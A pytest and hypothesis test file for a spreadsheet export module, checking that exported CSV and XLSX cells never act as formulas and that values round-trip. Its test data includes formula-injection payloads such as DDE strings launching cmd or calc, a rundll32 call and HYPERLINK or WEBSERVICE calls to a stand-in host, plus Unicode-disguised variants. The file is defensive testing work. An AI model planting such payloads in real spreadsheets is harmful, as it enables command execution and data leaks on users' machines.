"""No exported cell acts as a formula, and every value comes back (IN-5, X11)."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from thousandfold_core.sheets.cleaning import clean_cell
from thousandfold_core.sheets.reading import read_sheet
from thousandfold_core.sheets.refusals import CellTooLongToWrite
from thousandfold_core.sheets.writing import STARTERS, denature, neutralise, to_csv, to_xlsx

COMMAND = "cmd|' /C calc'!A0"
PAYLOADS = [
    "=1+1", "=1+1;2", f"={COMMAND}", f"+{COMMAND}", f"-{COMMAND}", f"@{COMMAND}", f"|{COMMAND}",
    '=HYPERLINK("http://x.example?"&A1,"see")', '=WEBSERVICE("http://x.example")',
    '=IMPORTXML("http://x.example","//a")', '=IMPORTDATA("http://x.example")',
    '=IMAGE("http://x.example/i.png")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
    '=MSEXCEL|"\\..\\..\\..\\Windows\\System32\\cmd.exe"!""', "=rundll32|'URL.dll,OpenURL x'!A",
    "@SUM(1+1)*cmd|' /C calc'!A0", "+SUM(A1:A9)", "-SUM(A1:A9)", "-2+3", "-5", "+1", "+1 408 555 0100",
    "=", "+", "-", "@", "|", "==1", "=-1", "-=1", "=\t1", "=\n1",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\t", "\r", "\n", "\tplain", "\rplain", "\nplain",
    " =1+1", "   @x", "\u00a0=1+1", "\u2003=1", "\u3000+1", "\u2028=1", "\u0085=1", "\u202f-1", "\x0b=1", "\x0c=1",
    "\u200b=1", "\ufeff=1", "\u2060=1", "\u200e=1", "\u202a=1", "\u00ad=1", "\u2066@x",
    "＝1+1", "＋1", "－1", "＠x", "｜x", "﹦1", "﹢1", "﹣1", "﹫x", "−1",
    "Foo\n=1+1", "Foo\r=1+1", "Foo\r\n=1+1", "Foo\r\n\t@x", "Foo\n\n＝1", "Foo\n \u00a0=1", "a\nb\n+c",
    "'=1+1", "''=1+1", "'+1", "' =1", "'\n=1", "'Foo\n'=1",
    '"=1+1', '=1+1"', "=1,=2", "=1;=2", "=1\t=2",
]  # fmt: skip
HARMLESS = [
    "Ana", "O'Dell", "'tis", "1+1", "a=b", "me@example.org", "3-4", "x|y", "«=»", "5", "0", "Ana\nBo",
    "#N/A", "'", "''", "% of", "(=1)", "$1", "~x", "½", "聖荷西", "👩\u200d🌾",
]  # fmt: skip

FORMULA_STARTS = set("=+-@|")
CELLS = st.text(
    st.one_of(st.sampled_from("'=+-@|＝ \t\r\n\u200b\u00a0,;\"ab"), st.characters(codec="utf-8")),
    max_size=20,
)


def acts(cell: str) -> bool:
    """Slow and obvious: could any line of the cell be taken for a formula?

    Full-width, small and raised forms are folded by NFKC; spaces and invisible format
    characters in front are skipped.
    """
    for line in cell.replace("\r", "\n").split("\n"):
        kept = [c for c in line if not (c.isspace() or unicodedata.category(c) == "Cf")]
        folded = unicodedata.normalize("NFKC", kept[0])[0] if kept else ""
        if folded in FORMULA_STARTS or folded == "\u2212":
            return True
    return cell[:1] in ("\t", "\r", "\n")


def test_the_corpus_has_at_least_sixty_payloads():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_payload_does_not_act_after_neutralising(payload):
    assert not acts(neutralise(payload))
    assert denature(neutralise(payload)) == payload


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_harmless_text_is_written_as_it_is(text):
    assert neutralise(text) == text
    assert denature(text) == text


def test_the_signs_are_all_that_fold_to_a_formula_sign():
    folded = {chr(n) for n in range(0x10000) if acts(chr(n))} - set("\t\r\n")
    assert folded == set(STARTERS)


@given(CELLS)
@settings(deadline=None, max_examples=150)
def test_neutralising_can_always_be_undone(cell):
    assert denature(neutralise(cell)) == cell


@given(CELLS)
@settings(deadline=None, max_examples=150)
def test_no_neutralised_cell_acts(cell):
    assert not acts(neutralise(cell))


def test_no_cell_of_an_exported_csv_acts():
    read = csv.reader(io.StringIO(to_csv([[p] for p in PAYLOADS]).decode("utf-8-sig"), newline=""))
    found = [row[0] for row in read]
    assert len(found) == len(PAYLOADS)
    assert not [cell for cell in found if acts(cell)]


def test_no_cell_of_an_exported_workbook_is_a_formula():
    page = load_workbook(io.BytesIO(to_xlsx([[p, "x"] for p in [*PAYLOADS, "#N/A"]]))).active
    kinds = {cell.data_type for row in page.iter_rows() for cell in row if cell.value is not None}
    assert kinds == {"s"}


def test_a_risky_workbook_cell_stays_text_when_edited():
    page = load_workbook(io.BytesIO(to_xlsx([["=1+1", "Ana"]]))).active
    assert [cell.quotePrefix for cell in page[1]] == [True, False]


def test_a_workbook_is_written_the_same_each_time():
    rows = [["Name"], ["Ana"]]
    book = load_workbook(io.BytesIO(to_xlsx(rows)))
    assert to_xlsx(rows) == to_xlsx(rows)
    assert (book.properties.created.year, book.properties.modified.year) == (1980, 1980)


def test_csv_starts_with_a_mark_and_ends_lines_as_spreadsheets_do():
    assert to_csv([["Zoë", None, 5]]) == b"\xef\xbb\xbf" + "Zoë,,5\r\n".encode()


def test_a_text_too_long_for_a_workbook_is_refused_and_not_cut():
    with pytest.raises(CellTooLongToWrite, match="32,768 letters"):
        to_xlsx([["x" * 32_768]])


# What reading makes of a cell is trimmed and in NFC; these are nearly so.
TIDY = st.text(
    st.one_of(
        st.sampled_from("'=+-@|＝ \n,;\"ab\u200d\u0301"),
        st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]),
    ),
    max_size=12,
).map(lambda text: unicodedata.normalize("NFC", text))
TABLES = st.lists(st.tuples(TIDY, TIDY), min_size=1, max_size=6)


@pytest.mark.parametrize("write", [to_csv, to_xlsx])
@given(rows=TABLES)
@example(rows=[("=1", "'=1")])
@example(rows=[("_x000D_", "_x005F_")])
@settings(deadline=None, max_examples=60)
def test_what_is_written_is_read_back(write, rows):
    rows = [(f"row {n}", clean_cell(a), clean_cell(b)) for n, (a, b) in enumerate(rows)]
    sheet = read_sheet(write([("Key", "Eins", "Zwei"), *rows]), "x")
    assert [row.cells for row in sheet.rows] == rows


@pytest.mark.parametrize("write", [to_csv, to_xlsx])
def test_payloads_come_back_trimmed_and_otherwise_whole(write):
    rows = [(f"row {n}", payload) for n, payload in enumerate(PAYLOADS)]
    sheet = read_sheet(write([("Key", "Value"), *rows]), "x")
    assert [row.cells[1] for row in sheet.rows] == [clean_cell(payload) for payload in PAYLOADS]
